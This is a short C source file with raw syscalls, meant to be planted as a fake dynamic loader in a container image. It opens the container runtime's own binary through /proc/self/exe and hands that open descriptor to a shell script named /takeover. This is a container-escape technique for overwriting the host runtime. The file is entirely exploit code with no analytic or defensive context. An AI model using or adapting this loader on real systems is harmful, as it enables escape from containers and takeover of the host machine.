/* The program of an image that is after the runtime's own file: installed as the dynamic loader of a
 * root file system whose command is a script with the interpreter /proc/self/exe. The kernel then
 * maps the runtime's program, and starts this one, in the container.
 *
 * Opens /proc/self/exe, and goes on as /bin/sh /takeover with the descriptor open. */

static long call(long n, const void *a, const void *b, const void *c)
{
    long result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "0"(n), "D"(a), "S"(b), "d"(c)
                     : "memory", "rcx", "r11");
    return result;
}

enum { OPEN = 2, EXECVE = 59, EXIT = 60 };

void _start(void)
{
    /* Filled here: nobody relocates an address in the data of a loader. */
    const char *volatile args[3];
    const char *volatile env[2];
    args[0] = "sh";
    args[1] = "/takeover";
    args[2] = 0;
    env[0] = "PATH=/bin";
    env[1] = 0;
    call(OPEN, "/proc/self/exe", 0, 0);
    call(EXECVE, "/bin/sh", (const void *)args, (const void *)env);
    call(EXIT, (void *)1, 0, 0);
}
